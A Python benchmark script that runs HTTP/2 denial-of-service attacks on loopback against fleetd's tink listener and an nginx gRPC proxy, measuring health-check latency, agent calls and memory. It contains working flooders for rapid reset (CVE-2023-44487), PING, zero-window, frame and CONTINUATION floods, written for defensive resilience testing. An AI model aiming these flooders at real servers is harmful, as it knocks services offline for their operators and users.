"""
HTTP/2 abuse against the tink listener (issues 17 and 26), against
C{twistd -n fleetd} and then against nginx C{grpc_pass}, both in front of
the same grpcio tink-server stand-in (L{fleetd.testing.tinkserver}).

While the attack runs, a probe asks C{/healthz} on fleetd's admin listener
(for nginx: a C{/healthz} location served by the same worker) every
C{--probe-every} seconds over one keep-alive TLS connection, and a real
grpcio agent calls C{GetAction} every C{--agent-every} seconds (from
127.0.0.1, as the probe). Each attacking process has a source address of
its own and opens a new connection whenever the server closes its
connection. C{--attack} picks the case:

  - C{headers} and C{whole} (issue 17, item 7): four rapid-reset
    attackers (CVE-2023-44487, 127.0.0.2-5) and one PING flood that never
    reads its ACKs (127.0.0.6). The resetters send streams as fast as they
    can in batches of C{--batch}: C{headers} is the CVE's pattern
    (HEADERS, RST_STREAM); C{whole} sends a whole request first (HEADERS,
    DATA with the message and END_STREAM, RST_STREAM), the worst case for
    the upstream. The PING flood sends C{--ping-mib} MiB of PINGs in all,
    over as many connections as it takes, with a 4 KiB receive buffer and
    no reads; before the attack it runs alone, for the RSS it costs.
  - C{zero-window} (issue 26): one connection (127.0.0.7) that says
    SETTINGS_INITIAL_WINDOW_SIZE=0, sends C{--zero-window-streams} (60)
    whole GetAction requests and never a WINDOW_UPDATE, then holds the
    connection for the run, answering SETTINGS and PINGs: every answer
    stays queued in the server, with the upstream's credit for it.
  - C{frame-flood} (issue 26): C{--flood-connections} (4) connections
    from 127.0.0.8, each with one open stream (HEADERS, no END_STREAM),
    sending as fast as they can PRIORITY on that stream, WINDOW_UPDATE(1)
    on the connection, an empty DATA without END_STREAM and a frame of
    unknown type 0x20, C{--batch} such rounds a write.
  - C{continuation} (issue 26): C{--continuation-connections} (64)
    connections from 127.0.0.9 (one process, a thread each), each sending
    HEADERS without END_HEADERS, then 16 KiB CONTINUATION frames of junk
    never ending the header block, up to C{--continuation-kib} KiB, then
    holding the connection open. The default, 1,008 KiB (63 frames), is
    the most that h2 4.x buffers: it ends a connection whose header block
    passes 64 frames, its HEADERS counted (C{--continuation-kib 1024} shows
    that close).

In the three cases of issue 26 the stand-in answers C{GetAction} with a
realistic 1,668-byte action (L{realisticAction}; with the rapid resets, an
empty message as before), and the PING flood does not run.

Reported per server: /healthz p50/p99/max and failures, the agent's calls
(OK, failed by status, p99, max: from the attack's start to about 1 s
after its end; C{agent_ok_in_attack}: the calls answered while the
attackers ran), the attackers' connections (opened,
refused or cut off in the handshake, closed by the server with the median
and longest time they lived, still open at the end) and streams, the
counters of the case (frames written; HEADERS, DATA bytes, RST_STREAMs
and GOAWAYs by code received), the streams the upstream saw (its generic
handler counts every call it is offered) and per attacking connection,
PING bytes sent, and the server's RSS before, after and at its peak
(C{VmHWM}: since the process started); for fleetd, the abuse events its
log shows (throttled lines). The server is pinned to CPU 0, everything
else to CPU 1, the attackers at nice 19. Loopback only; every process
started is stopped.

    .venv/bin/python bench/h2_abuse.py --seconds 10 [--attack ATTACK]
"""

from __future__ import annotations

import argparse
import http.client
import multiprocessing
import os
import random
import re
import select
import shutil
import socket
import ssl
import sys
import tempfile
import threading
import time
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from typing import Any

import grpc
import hpack

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from bench._fleet import Daemon, makeFleet, procStatus
from bench.boot_storm import freePort
from bench.tink_proxy import Nginx
from fleetd.testing.tinkserver import Script, ScriptHandler, realisticAction

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS = b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
METHOD = "/proto.WorkflowService/GetAction"
REQUEST = b"\x0a\x1152:54:00:12:34:56"
MESSAGE = b"\x00" + len(REQUEST).to_bytes(4, "big") + REQUEST
RAPID_RESET = ("headers", "whole")
ATTACKS = (*RAPID_RESET, "zero-window", "frame-flood", "continuation")

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS_FRAME = 0x0, 0x1, 0x2, 0x3, 0x4
PING, GOAWAY, WINDOW_UPDATE, CONTINUATION, UNKNOWN = 0x6, 0x7, 0x8, 0x9, 0x20
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
INITIAL_WINDOW_SIZE = 0x4
ERRORS = (
    "NO_ERROR PROTOCOL_ERROR INTERNAL_ERROR FLOW_CONTROL_ERROR SETTINGS_TIMEOUT "
    "STREAM_CLOSED FRAME_SIZE_ERROR REFUSED_STREAM CANCEL COMPRESSION_ERROR "
    "CONNECT_ERROR ENHANCE_YOUR_CALM INADEQUATE_SECURITY HTTP_1_1_REQUIRED"
).split()
Frame = tuple[int, int, int, bytes]  # type, flags, stream, payload
# What a L{FrameReader} counts (GOAWAYs besides, by their codes).
RECEIVED = ("headers_received", "data_bytes_received", "rst_received")
EVENT = re.compile(r"\b(tink\.(?:h2|upstream)\.[\w-]+|listen\.connection-refused)")


def frame(kind: int, flags: int, sid: int, payload: bytes) -> bytes:
    return (
        len(payload).to_bytes(3, "big")
        + bytes([kind, flags])
        + sid.to_bytes(4, "big")
        + payload
    )


ACTION = realisticAction()


def requestBlock() -> bytes:
    """The HPACK block of a GetAction request."""
    block: bytes = hpack.Encoder().encode(
        [
            (b":method", b"POST"),
            (b":scheme", b"https"),
            (b":path", METHOD.encode()),
            (b":authority", b"localhost"),
            (b"te", b"trailers"),
            (b"content-type", b"application/grpc"),
        ]
    )
    return block


def streamFrames(block: bytes, sid: int, whole: bool) -> bytes:
    """One attacking stream: HEADERS [DATA END_STREAM] RST_STREAM(CANCEL)."""
    out = frame(0x1, 0x4, sid, block)
    if whole:
        out += frame(0x0, 0x1, sid, MESSAGE)
    return out + frame(0x3, 0x0, sid, (8).to_bytes(4, "big"))


def connect(port: int, source: str, ca: bytes, rcvbuf: int = 0) -> ssl.SSLSocket:
    context = ssl.create_default_context(cadata=ca.decode())
    context.set_alpn_protocols(["h2"])
    raw = socket.socket()
    if rcvbuf:
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    raw.bind((source, 0))
    raw.settimeout(10)
    raw.connect(("127.0.0.1", port))
    return context.wrap_socket(raw, server_hostname="localhost")


class Tally:
    """
    One attacking process's connections, from C{source} for C{seconds}:
    how many it opened (TLS done), how many attempts failed (refused,
    cut off in the handshake), and how long each connection the server
    closed had lived; counters of the attack's own beside. Thread-safe
    (the CONTINUATION flood runs a thread per connection).
    """

    def __init__(
        self,
        kind: str,
        port: int,
        source: str,
        ca: bytes,
        seconds: float,
        counts: tuple[str, ...] = ("streams",),
    ) -> None:
        self.kind = kind
        self.port, self.source, self.ca = port, source, ca
        self.end = time.monotonic() + seconds
        self.opened = self.refused = 0
        self.closedAfter: list[float] = []
        self.counts: dict[str, int] = dict.fromkeys(counts, 0)
        self.lock = threading.Lock()

    def running(self) -> bool:
        return time.monotonic() < self.end

    def remaining(self) -> float:
        return max(0.0, self.end - time.monotonic())

    def connect(self, rcvbuf: int = 0) -> tuple[ssl.SSLSocket, float] | None:
        """A new connection and when it was opened, or L{None} (after a
        short pause) if the server would not have it."""
        try:
            sock = connect(self.port, self.source, self.ca, rcvbuf)
        except OSError:
            with self.lock:
                self.refused += 1
            time.sleep(0.01)
            return None
        with self.lock:
            self.opened += 1
        return sock, time.monotonic()

    def closed(self, began: float) -> None:
        """The server closed (or cut off) the connection opened at
        C{began}; one that ends with the run is not counted."""
        now = time.monotonic()
        if now < self.end:
            with self.lock:
                self.closedAfter.append(now - began)

    def count(self, name: str, n: int = 1) -> None:
        with self.lock:
            self.counts[name] = self.counts.get(name, 0) + n

    def result(self) -> dict[str, Any]:
        with self.lock:
            return {
                "kind": self.kind,
                "connections": self.opened,
                "refused": self.refused,
                "closedAfter": list(self.closedAfter),
                **self.counts,
            }


class FrameReader:
    """
    Splits what the server sends into frames and counts, in a L{Tally},
    the ones an attack is judged by: response HEADERS, DATA bytes (none
    may come through a window of 0), RST_STREAM and each GOAWAY's code.
    """

    def __init__(self, tally: Tally) -> None:
        self.tally = tally
        self.buffer = bytearray()

    def feed(self, data: bytes) -> list[Frame]:
        self.buffer += data
        frames = []
        while len(self.buffer) >= 9:
            size = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + size:
                break
            kind, flags = self.buffer[3], self.buffer[4]
            sid = int.from_bytes(self.buffer[5:9], "big") & 0x7FFFFFFF
            payload = bytes(self.buffer[9 : 9 + size])
            del self.buffer[: 9 + size]
            frames.append((kind, flags, sid, payload))
            if kind == HEADERS:
                self.tally.count("headers_received")
            elif kind == DATA:
                self.tally.count("data_bytes_received", size)
            elif kind == RST_STREAM:
                self.tally.count("rst_received")
            elif kind == GOAWAY and size >= 8:
                code = int.from_bytes(payload[4:8], "big")
                name = ERRORS[code] if code < len(ERRORS) else hex(code)
                self.tally.count(f"goaway_{name}")
        return frames


def readSome(
    sock: ssl.SSLSocket, reader: FrameReader, wait: float, answer: bool = True
) -> list[Frame] | None:
    """
    The frames the server sent within C{wait} seconds (L{None}: nothing
    came), its SETTINGS and PINGs acknowledged as any client does unless
    not to C{answer} (inside a header block no other frame may be sent).
    L{EOFError} once it closed the connection.
    """
    if not sock.pending() and not select.select([sock], [], [], wait)[0]:
        return None
    try:
        data = sock.recv(65536)
    except TimeoutError:  # part of a TLS record
        return []
    if not data:
        raise EOFError
    frames = reader.feed(data)
    replies = b"".join(
        frame(kind, ACK, 0, b"" if kind == SETTINGS_FRAME else payload)
        for kind, flags, _, payload in frames
        if kind in (SETTINGS_FRAME, PING) and not flags & ACK
    )
    if replies and answer:
        sendUntil(sock, replies, time.monotonic() + 10)
    return frames


def sendUntil(sock: ssl.SSLSocket, data: bytes, end: float) -> bool:
    """
    Send all of C{data} unless the run's C{end} (monotonic) comes first
    (L{False}). The socket's timeout only means the server is not reading
    now: the same bytes are offered again, as TLS wants.
    """
    view = memoryview(data)
    while view:
        if time.monotonic() >= end:
            return False
        try:
            sent = sock.send(view)
        except TimeoutError:
            continue
        view = view[sent:]
    return True


Session = Callable[[ssl.SSLSocket, FrameReader], None]
"""What an attack does on one connection, until the run ends or the
server closes it (L{OSError}, L{EOFError})."""


def reconnecting(
    tally: Tally,
    session: Session,
    *,
    rcvbuf: int = 0,
    timeout: float | None = None,
    more: Callable[[], bool] = lambda: True,
) -> None:
    """
    The attack loop, one for every attack: while the run lasts (and
    C{more()}), open a connection from the tally's source (a receive
    buffer of C{rcvbuf} bytes, a socket timeout of C{timeout} seconds if
    given) and run C{session} on it; a connection the server closes is
    counted (L{Tally.closed}), one whose blocking send timed out (the
    server stopped reading) is given up, and either way a new one opens.
    """
    while tally.running() and more():
        opened = tally.connect(rcvbuf)
        if opened is None:
            continue
        sock, began = opened
        if timeout is not None:
            sock.settimeout(timeout)
        try:
            session(sock, FrameReader(tally))
        except TimeoutError:
            pass  # the server stopped reading: give up on this connection
        except (OSError, EOFError):
            tally.closed(began)
        finally:
            sock.close()


def rapidReset(
    port: int, source: str, ca: bytes, seconds: float, whole: bool, batch: int, out: Any
) -> None:
    """Reset streams as fast as possible for C{seconds}, reconnecting."""
    os.nice(19)  # the probe and the agent share this CPU: let them run
    block = requestBlock()
    tally = Tally("reset", port, source, ca, seconds)

    def session(sock: ssl.SSLSocket, reader: FrameReader) -> None:
        sid = 1
        sock.sendall(PREFACE + SETTINGS)
        while tally.running():
            chunk = b"".join(
                streamFrames(block, sid + 2 * i, whole) for i in range(batch)
            )
            sock.sendall(chunk)
            sid += 2 * batch
            tally.count("streams", batch)
            while select.select([sock], [], [], 0)[0]:
                if not sock.recv(65536):
                    raise EOFError

    reconnecting(tally, session)
    out.put(tally.result())


def pingFlood(
    port: int, source: str, ca: bytes, total: int, seconds: float, out: Any
) -> None:
    """Send C{total} bytes of PINGs (for at most C{seconds}), reading
    nothing, reconnecting."""
    os.nice(19)
    chunk = frame(PING, 0x0, 0, b"12345678") * 4096  # 68 KiB
    sent = 0
    tally = Tally("ping", port, source, ca, seconds, ("sent",))

    def session(sock: ssl.SSLSocket, reader: FrameReader) -> None:
        nonlocal sent
        sock.sendall(PREFACE + SETTINGS)
        while sent < total and tally.running():
            sock.sendall(chunk)
            sent += len(chunk)

    reconnecting(tally, session, rcvbuf=4096, more=lambda: sent < total)
    tally.count("sent", sent)
    out.put(tally.result())


def zeroWindow(
    port: int, source: str, ca: bytes, seconds: float, streams: int, out: Any
) -> None:
    """
    Say SETTINGS_INITIAL_WINDOW_SIZE=0, send C{streams} whole GetAction
    requests (HEADERS, DATA with the message and END_STREAM) and never send
    a WINDOW_UPDATE: no answer can leave the server, which holds them (and
    the upstream's credit for them) while the connection lives. Holds the
    connection for C{seconds}, reading, and reconnects when it is closed.
    """
    os.nice(19)
    tally = Tally("zero-window", port, source, ca, seconds, ("streams", *RECEIVED))
    settings = frame(
        SETTINGS_FRAME, 0, 0, INITIAL_WINDOW_SIZE.to_bytes(2, "big") + bytes(4)
    )
    block = requestBlock()
    requests = b"".join(
        frame(HEADERS, END_HEADERS, sid, block) + frame(DATA, END_STREAM, sid, MESSAGE)
        for sid in range(1, 2 * streams, 2)
    )

    def session(sock: ssl.SSLSocket, reader: FrameReader) -> None:
        if sendUntil(sock, PREFACE + settings + requests, tally.end):
            tally.count("streams", streams)
        while tally.running():
            readSome(sock, reader, min(0.5, tally.remaining()))

    reconnecting(tally, session, timeout=0.25)
    out.put(tally.result())


def floodRound(sid: int) -> bytes:
    """One round of the frame flood: PRIORITY, WINDOW_UPDATE(1) on the
    connection, an empty DATA without END_STREAM on the open stream
    C{sid}, and a frame of an unknown type."""
    return (
        frame(PRIORITY, 0, sid, bytes(4) + b"\x0f")
        + frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big"))
        + frame(DATA, 0, sid, b"")
        + frame(UNKNOWN, 0, 0, b"junkjunk")
    )


def frameFlood(
    port: int, source: str, ca: bytes, seconds: float, batch: int, out: Any
) -> None:
    """
    Open one stream (its HEADERS, no END_STREAM) and send L{floodRound}s
    on it as fast as possible, C{batch} at a time, for C{seconds}: frames
    that cost the server parsing and never make a request. A new stream
    when the server resets the open one; reconnects when it is closed.
    """
    os.nice(19)
    tally = Tally(
        "frame-flood", port, source, ca, seconds, ("streams", "frames", *RECEIVED)
    )
    block = requestBlock()

    def session(sock: ssl.SSLSocket, reader: FrameReader) -> None:
        sid = 1
        head = PREFACE + SETTINGS + frame(HEADERS, END_HEADERS, sid, block)
        if sendUntil(sock, head, tally.end):
            tally.count("streams")
        chunk = floodRound(sid) * batch
        while sendUntil(sock, chunk, tally.end):
            tally.count("frames", 4 * batch)
            while (frames := readSome(sock, reader, 0)) is not None:
                if any(f[0] == RST_STREAM and f[2] == sid for f in frames):
                    sid += 2
                    fresh = frame(HEADERS, END_HEADERS, sid, block)
                    if not sendUntil(sock, fresh, tally.end):
                        break
                    tally.count("streams")
                    chunk = floodRound(sid) * batch

    reconnecting(tally, session, timeout=0.25)
    out.put(tally.result())


def continuationFlood(
    port: int,
    source: str,
    ca: bytes,
    seconds: float,
    connections: int,
    kib: int,
    out: Any,
) -> None:
    """
    C{connections} connections at once (a thread each), each sending a
    request's HEADERS without END_HEADERS, then CONTINUATION frames of
    16 KiB of junk, never with END_HEADERS, up to C{kib} KiB, then holding
    the connection open, reading, until the run ends; each reconnects
    when its connection is closed. The server's SETTINGS are acknowledged
    before the header block opens (and nothing after: any other frame in
    a header block is a connection error of the client's own).
    """
    os.nice(19)
    counts = ("streams", "continuation_frames", "filled", *RECEIVED)
    tally = Tally("continuation", port, source, ca, seconds, counts)
    junk = frame(CONTINUATION, 0, 1, random.Random(9).randbytes(16384))
    head = frame(HEADERS, 0, 1, requestBlock())
    count = max(1, (kib << 10) // 16384)

    def session(sock: ssl.SSLSocket, reader: FrameReader) -> None:
        if not sendUntil(sock, PREFACE + SETTINGS, tally.end):
            return
        settled = time.monotonic() + 2
        while time.monotonic() < settled and not any(
            kind == SETTINGS_FRAME for kind, *_ in readSome(sock, reader, 0.25) or ()
        ):
            pass
        if not sendUntil(sock, head, tally.end):
            return
        tally.count("streams")
        for _ in range(count):
            if not sendUntil(sock, junk, tally.end):
                break
            tally.count("continuation_frames")
        else:
            tally.count("filled")  # connections that sent all
        while tally.running():
            wait = min(0.5, tally.remaining())
            readSome(sock, reader, wait, answer=False)

    def attacker() -> None:
        reconnecting(tally, session, timeout=0.25)

    threads = [threading.Thread(target=attacker) for _ in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    out.put(tally.result())


class Probe(threading.Thread):
    """GET /healthz every C{every} seconds over one keep-alive connection."""

    def __init__(self, port: int, ca: bytes, every: float) -> None:
        super().__init__(daemon=True)
        self.port, self.every = port, every
        self.context = ssl.create_default_context(cadata=ca.decode())
        self.latencies: list[float] = []
        self.failures = 0
        self.stopping = threading.Event()

    def run(self) -> None:
        conn: http.client.HTTPSConnection | None = None
        while not self.stopping.is_set():
            began = time.perf_counter()
            try:
                if conn is None:
                    conn = http.client.HTTPSConnection(
                        "localhost", self.port, timeout=10, context=self.context
                    )
                conn.request("GET", "/healthz")
                response = conn.getresponse()
                response.read()
                if response.status != 200:
                    raise OSError(response.status)
                self.latencies.append(time.perf_counter() - began)
            except (OSError, http.client.HTTPException):
                self.failures += 1
                conn = None
            self.stopping.wait(max(0.0, self.every - (time.perf_counter() - began)))


def probeMain(port: int, ca: bytes, every: float, stop: Any, out: Any) -> None:
    """A L{Probe} in a process of its own (no GIL shared with the
    stand-in), until C{stop} is set."""
    probe = Probe(port, ca, every)
    probe.start()
    stop.wait()
    probe.stopping.set()
    probe.join()
    out.put((probe.latencies, probe.failures))


class ProbeProcess:
    def __init__(self, port: int, ca: bytes, every: float) -> None:
        spawn = multiprocessing.get_context("spawn")
        self.stop = spawn.Event()
        self.out = spawn.Queue()
        self.process = spawn.Process(
            target=probeMain, args=(port, ca, every, self.stop, self.out)
        )
        self.process.start()

    def finish(self) -> tuple[list[float], int]:
        self.stop.set()
        latencies, failures = self.out.get(timeout=60)
        self.process.join(30)
        return latencies, failures


class Agent(threading.Thread):
    """A grpcio agent calling GetAction every C{every} seconds."""

    def __init__(self, port: int, ca: bytes, every: float) -> None:
        super().__init__(daemon=True)
        self.every = every
        self.channel = grpc.secure_channel(
            f"localhost:{port}", grpc.ssl_channel_credentials(root_certificates=ca)
        )
        self.call = self.channel.unary_unary(METHOD, lambda b: b, lambda b: b)
        self.latencies: list[float] = []
        self.answered: list[float] = []  # when each call that succeeded ended
        self.failed: dict[str, int] = {}
        self.stopping = threading.Event()

    def run(self) -> None:
        while not self.stopping.is_set():
            began = time.perf_counter()
            try:
                self.call(REQUEST, timeout=5)
                self.answered.append(time.perf_counter())
                self.latencies.append(self.answered[-1] - began)
            except grpc.RpcError as e:
                name = e.code().name
                self.failed[name] = self.failed.get(name, 0) + 1
            self.stopping.wait(max(0.0, self.every - (time.perf_counter() - began)))
        self.channel.close()


class CountingHandler(grpc.GenericRpcHandler):  # type: ignore[misc]
    """Counts every call the stand-in is offered, then lets it answer."""

    def __init__(self) -> None:
        self.calls = 0
        self.lock = threading.Lock()

    def service(self, details: Any) -> None:
        with self.lock:
            self.calls += 1
        return None


class StandIn:
    """The grpcio tink-server stand-in (L{fleetd.testing.tinkserver}, h2c), answering
    GetAction with C{reply} (an empty message unless given), with a
    L{CountingHandler} first."""

    def __init__(self, reply: bytes = b"") -> None:
        from concurrent import futures

        self.script = Script()
        self.script.unary["GetAction"] = lambda request, context: reply
        self.counter = CountingHandler()
        self.server = grpc.server(futures.ThreadPoolExecutor(max_workers=8))
        self.server.add_generic_rpc_handlers((self.counter, ScriptHandler(self)))
        self.port = self.server.add_insecure_port("127.0.0.1:0")
        self.server.start()


def percentile(values: list[float], q: float) -> float:
    values = sorted(values)
    return 1000 * values[int(q * (len(values) - 1))] if values else float("nan")


def pingAlone(
    name: str, tinkPort: int, pid: int, ca: bytes, args: argparse.Namespace
) -> dict[str, Any]:
    """The PING flood alone: the server's RSS growth per 16 MiB sent."""
    spawn = multiprocessing.get_context("spawn")
    out: Any = spawn.Queue()
    before = procStatus(pid, "VmRSS")
    worker = spawn.Process(
        target=pingFlood,
        args=(tinkPort, "127.0.0.6", ca, args.ping_mib << 20, args.seconds, out),
    )
    worker.start()
    result = out.get(timeout=args.seconds + 60)
    connections, sent = result["connections"], result["sent"]
    worker.join(30)
    time.sleep(2)  # connections cut off, buffers freed
    after = procStatus(pid, "VmRSS")
    mib = sent / (1 << 20)
    row = {
        "ping_alone_mib_sent": mib,
        "ping_alone_connections": connections,
        "ping_alone_rss_growth_mib": (after - before) / 1024,
        "ping_alone_growth_per_16mib": (after - before) / 1024 * 16 / max(mib, 1e-9),
    }
    for key, value in row.items():
        shown = f"{value:.2f}" if isinstance(value, float) else value
        print(f"  {name:7} {key:28} {shown}", flush=True)
    return row


def attackers(
    tinkPort: int, ca: bytes, args: argparse.Namespace
) -> list[tuple[Callable[..., None], tuple[Any, ...]]]:
    """The processes of C{args.attack}: each a target and its arguments
    (the queue for its L{Tally}'s result goes last)."""
    seconds = args.seconds
    if args.attack in RAPID_RESET:
        whole = args.attack == "whole"
        jobs: list[tuple[Callable[..., None], tuple[Any, ...]]] = [
            (rapidReset, (tinkPort, f"127.0.0.{2 + n}", ca, seconds, whole, args.batch))
            for n in range(4)
        ]
        ping = (tinkPort, "127.0.0.6", ca, args.ping_mib << 20, seconds)
        return [*jobs, (pingFlood, ping)]
    if args.attack == "zero-window":
        hold = (tinkPort, "127.0.0.7", ca, seconds, args.zero_window_streams)
        return [(zeroWindow, hold)]
    if args.attack == "frame-flood":
        flood = (tinkPort, "127.0.0.8", ca, seconds, args.batch)
        return [(frameFlood, flood)] * args.flood_connections
    junk = (
        tinkPort,
        "127.0.0.9",
        ca,
        seconds,
        args.continuation_connections,
        args.continuation_kib,
    )
    return [(continuationFlood, junk)]


def attackFigures(results: list[dict[str, Any]]) -> dict[str, Any]:
    """The attackers' side of the report (not the PING flood's): their
    connections, how many the server closed and how soon, and the
    counters of the attack's own."""
    closedAfter = sorted(t for r in results for t in r["closedAfter"])
    connections = sum(r["connections"] for r in results)
    row: dict[str, Any] = {
        "attack_connections": connections,
        "attack_refused": sum(r["refused"] for r in results),
        "attack_closed_by_server": len(closedAfter),
        "attack_closed_after_p50_ms": percentile(closedAfter, 0.5),
        "attack_closed_after_max_ms": percentile(closedAfter, 1.0),
        "attack_held_to_end": connections - len(closedAfter),
        "attack_streams": sum(r.get("streams", 0) for r in results),
    }
    standard = {"kind", "connections", "refused", "closedAfter", "streams"}
    for key in sorted({k for r in results for k in r} - standard):
        row[f"attack_{key}"] = sum(r.get(key, 0) for r in results)
    return row


def attack(
    name: str,
    tinkPort: int,
    healthPort: int,
    pid: int,
    ca: bytes,
    counter: CountingHandler,
    args: argparse.Namespace,
) -> dict[str, Any]:
    quiet = ProbeProcess(healthPort, ca, args.probe_every)
    time.sleep(3)
    quietLatencies, _ = quiet.finish()
    probe = ProbeProcess(healthPort, ca, args.probe_every)
    agent = Agent(tinkPort, ca, args.agent_every)
    agent.start()
    time.sleep(1)
    rssBefore = procStatus(pid, "VmRSS")
    callsBefore = counter.calls
    agentCalls = len(agent.latencies)
    spawn = multiprocessing.get_context("spawn")  # no fork under grpc's threads
    out: Any = spawn.Queue()
    workers = [
        spawn.Process(target=target, args=(*targetArgs, out))
        for target, targetArgs in attackers(tinkPort, ca, args)
    ]
    spy = None
    if args.py_spy:
        import subprocess

        spy = subprocess.Popen(
            [
                args.py_spy,
                "record",
                "-p",
                str(pid),
                "-f",
                "raw",
                "-r",
                "200",
                "-d",
                str(int(args.seconds)),
                "-o",
                f"{name}.{args.attack}.spy",
            ],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
    for worker in workers:
        worker.start()
    attackBegan = time.perf_counter()
    results = [out.get(timeout=args.seconds + 180) for _ in workers]
    for worker in workers:
        worker.join(30)
    time.sleep(1)
    if spy is not None:
        spy.wait(60)
    latencies, failures = probe.finish()
    agent.stopping.set()
    agent.join()
    upstream = counter.calls - callsBefore - (len(agent.latencies) - agentCalls)
    upstream -= sum(agent.failed.values())  # at most: failed calls may count
    pings = [r for r in results if r["kind"] == "ping"]
    figures = attackFigures([r for r in results if r["kind"] != "ping"])
    connections = figures["attack_connections"]
    row = {
        "server": name,
        "attack": args.attack,
        "quiet_p99_ms": percentile(quietLatencies, 0.99),
        "healthz_p50_ms": percentile(latencies, 0.5),
        "healthz_p99_ms": percentile(latencies, 0.99),
        "healthz_max_ms": percentile(latencies, 1.0),
        "healthz_n": len(latencies),
        "healthz_failed": failures,
        "agent_ok": len(agent.latencies) - agentCalls,
        "agent_failed": dict(agent.failed),
        "agent_p99_ms": percentile(agent.latencies[agentCalls:], 0.99),
        "agent_max_ms": percentile(agent.latencies[agentCalls:], 1.0),
        "agent_ok_in_attack": sum(
            attackBegan <= t <= attackBegan + args.seconds for t in agent.answered
        ),
        **figures,
        "upstream_streams": max(0, upstream),
        "upstream_per_connection": max(0, upstream) / max(1, connections),
    }
    if pings:
        row["ping_connections"] = sum(r["connections"] for r in pings)
        row["ping_mib_sent"] = sum(r.get("sent", 0) for r in pings) / (1 << 20)
    row["rss_before_mib"] = rssBefore / 1024
    row["rss_after_mib"] = procStatus(pid, "VmRSS") / 1024
    row["rss_peak_mib"] = procStatus(pid, "VmHWM") / 1024
    for key, value in row.items():
        shown = f"{value:.2f}" if isinstance(value, float) else value
        print(f"  {name:7} {key:28} {shown}", flush=True)
    return row


def nginxConfig(pki: Path, port: int, health: int, upstream: int) -> str:
    tls = (
        f"    ssl_certificate {pki}/public.pem;\n"
        f"    ssl_certificate_key {pki}/public.key;\n"
    )
    return (
        f"  upstream tink {{ server 127.0.0.1:{upstream}; keepalive 32; }}\n"
        f"  server {{\n    listen 127.0.0.1:{port} ssl http2;\n{tls}"
        "    location / { grpc_pass grpc://tink; }\n  }\n"
        f"  server {{\n    listen 127.0.0.1:{health} ssl;\n{tls}"
        '    location = /healthz { return 200 "ok\\n"; }\n  }\n'
    )


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--seconds", type=float, default=10.0)
    parser.add_argument("--attack", choices=ATTACKS, default="whole")
    parser.add_argument(
        "--batch", type=int, default=100, help="streams (frame-flood: rounds) a write"
    )
    parser.add_argument("--zero-window-streams", type=int, default=60)
    parser.add_argument("--flood-connections", type=int, default=4)
    parser.add_argument("--continuation-connections", type=int, default=64)
    parser.add_argument("--continuation-kib", type=int, default=1008)
    parser.add_argument("--ping-mib", type=int, default=16)
    parser.add_argument("--probe-every", type=float, default=0.02)
    parser.add_argument("--agent-every", type=float, default=0.05)
    parser.add_argument("--servers", default="fleetd,nginx")
    parser.add_argument(
        "--py-spy", help="py-spy binary: profile fleetd into ./fleetd.ATTACK.spy"
    )
    args = parser.parse_args()
    servers = args.servers.split(",")
    if "nginx" in servers and shutil.which("nginx") is None:
        raise SystemExit("nginx is needed for --servers nginx")
    os.sched_setaffinity(0, {1})
    work = Path(tempfile.mkdtemp(prefix="h2abuse-"))
    vault = Path(tempfile.mkdtemp(prefix="h2abuse-", dir="/dev/shm"))
    rapid = args.attack in RAPID_RESET
    upstream = StandIn(b"" if rapid else ACTION)
    counter = upstream.counter
    fleet = makeFleet(
        work / "fleetd",
        vault / "configs",
        {"tink": {"upstream": f"tcp:127.0.0.1:{upstream.port}"}},
    )
    ca = fleet.pki.public_ca.read_bytes()
    started: list[Any] = []
    rows = []
    try:
        if "fleetd" in servers:
            daemon = Daemon(fleet, cpus="0")
            daemon.start(waitFor=b"listen.started tink ")
            started.append(daemon)
            if rapid:
                tinkPort = daemon.ports["tink"]
                rows.append(pingAlone("fleetd", tinkPort, daemon.pid, ca, args))
            rows.append(
                attack(
                    "fleetd",
                    daemon.ports["tink"],
                    daemon.ports["admin"],
                    daemon.pid,
                    ca,
                    counter,
                    args,
                )
            )
            log = daemon.logText()
            calm = log.count("tink.h2.enhance-your-calm")
            print(f"  fleetd  enhance-your-calm lines (throttled) {calm}")
            events = Counter(EVENT.findall(log))
            shown = ", ".join(f"{k} {v}" for k, v in sorted(events.items()))
            print(f"  fleetd  log events (throttled) {shown or 'none'}", flush=True)
            daemon.stop()
        if "nginx" in servers:
            port, health = freePort(), freePort()
            nginx = Nginx(
                work / "nginx",
                nginxConfig(fleet.pki.directory, port, health, upstream.port),
                "0",
                port,
            )
            started.append(nginx)
            if rapid:
                rows.append(pingAlone("nginx", port, nginx.pid, ca, args))
            rows.append(attack("nginx", port, health, nginx.pid, ca, counter, args))
            nginx.stop()
    finally:
        for each in reversed(started):
            each.stop()
        upstream.server.stop(None)
        shutil.rmtree(vault, ignore_errors=True)
        shutil.rmtree(work, ignore_errors=True)


if __name__ == "__main__":
    os.environ.setdefault("GRPC_VERBOSITY", "ERROR")
    main()
